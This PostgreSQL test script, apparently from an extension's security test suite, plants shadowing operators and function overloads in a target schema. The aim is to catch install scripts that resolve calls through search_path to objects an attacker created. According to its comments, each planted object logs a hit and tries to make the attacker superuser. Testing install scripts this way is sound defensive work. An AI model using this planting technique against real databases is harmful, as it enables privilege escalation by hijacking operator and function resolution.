-- Plants hostile operators and functions in schema :"target" (run by the
-- attacker, test/attack/install_attack.sh).  Every planted function bumps the
-- sequence pe_attack.hits (nextval is not rolled back, so a hit inside an
-- install that fails still counts), logs itself in pe_attack.log, warns
-- "PLANTED ran" and tries to make the attacker superuser.
--
-- What is planted: for every operator name below and every pair of the
-- types below for which pg_catalog has no operator with exactly these
-- argument types (so a planted exact match would win over pg_catalog's
-- polymorphic or coercing one, as <@ (smallint[], smallint[]) did), an
-- operator; for every pg_catalog function of one or two arguments whose
-- name the install script calls, the same name with each argument type
-- replaced by each type below, where pg_catalog has no such signature.
SET client_min_messages = warning;
SELECT set_config('pe.target', :'target', false) \g /dev/null
DO $plant$
DECLARE
    target text := current_setting('pe.target');
    types regtype[] := ARRAY['smallint', 'integer', 'bigint', 'numeric', 'real', 'double precision',
        'text', 'character varying', 'name', 'boolean', 'date', 'timestamp with time zone',
        'interval', 'jsonb', 'smallint[]', 'integer[]', 'text[]', 'double precision[]', 'numeric[]',
        '"char"', 'regclass']::regtype[];
    ops text[] := ARRAY['=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '%', '||', '<@', '@>',
                        '&&', '~~', '~', '->', '->>', '?', '#>>', '@@'];
    l regtype; r regtype; op text; ret regtype; n int := 0; fn text;
    f record; i int; t regtype; args regtype[]; sig text;
BEGIN
    FOREACH op IN ARRAY ops LOOP
        FOREACH l IN ARRAY types LOOP
            FOREACH r IN ARRAY types LOOP
                CONTINUE WHEN EXISTS (SELECT 1 FROM pg_catalog.pg_operator AS o
                                      WHERE o.oprname = op AND o.oprleft = l AND o.oprright = r
                                        AND o.oprnamespace = 'pg_catalog'::regnamespace);
                ret := CASE WHEN op IN ('=', '<>', '<', '>', '<=', '>=', '<@', '@>', '&&', '~~', '~', '?', '@@')
                            THEN 'boolean'
                            WHEN 'double precision' IN (l::text, r::text) THEN 'double precision'
                            WHEN 'numeric' IN (l::text, r::text) THEN 'numeric'
                            ELSE l END;
                n := n + 1;
                fn := format('%I.pe_plant_op_%s', target, n);
                EXECUTE format('CREATE FUNCTION %s(%s, %s) RETURNS %s LANGUAGE sql VOLATILE AS %L',
                               fn, l, r, ret,
                               format('SELECT pe_attack.hit(%L)::%s', format('%s %s %s in %s', l, op, r, target), ret));
                EXECUTE format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s)',
                               target, op, l, r, fn);
            END LOOP;
        END LOOP;
        COMMIT;   -- one transaction per operator name: the locks stay few
    END LOOP;
    RAISE NOTICE 'planted % operators in %', n, target;
    n := 0;
    FOR f IN SELECT DISTINCT p.proname, p.pronargs, p.prorettype::regtype AS ret
             FROM pg_catalog.pg_proc AS p
             WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
               AND p.pronargs BETWEEN 1 AND 2 AND NOT p.proretset
               AND p.prorettype <> ALL ('{internal,trigger,event_trigger,void}'::regtype[])
               AND NOT EXISTS (SELECT 1 FROM unnest(string_to_array(p.proargtypes::text, ' ')::oid[]) AS a(t)
                               WHERE a.t::regtype::text IN ('internal', 'cstring', '"any"') OR a.t::regtype::text LIKE 'any%')
               AND p.proname IN (SELECT w FROM pe_attack.called_name)
    LOOP
        FOR i IN 1 .. f.pronargs LOOP
            FOREACH t IN ARRAY types LOOP
                FOR args IN SELECT string_to_array(p.proargtypes::text, ' ')::oid[]::regtype[] FROM pg_catalog.pg_proc AS p
                            WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = f.proname
                              AND p.pronargs = f.pronargs AND p.prokind = 'f' LIMIT 1 LOOP
                    args[i] := t;
                    sig := array_to_string(args, ', ');
                    CONTINUE WHEN EXISTS (SELECT 1 FROM pg_catalog.pg_proc AS p
                                          WHERE p.proname = f.proname AND string_to_array(p.proargtypes::text, ' ')::oid[]::regtype[] = args
                                            AND p.pronamespace IN ('pg_catalog'::regnamespace, target::regnamespace));
                    n := n + 1;
                    EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE sql VOLATILE AS %L',
                                   target, f.proname, sig, f.ret,
                                   format('SELECT pe_attack.hit(%L)::%s', format('%s(%s) in %s', f.proname, sig, target), f.ret));
                END LOOP;
            END LOOP;
        END LOOP;
        COMMIT;
    END LOOP;
    RAISE NOTICE 'planted % functions in %', n, target;
END
$plant$;
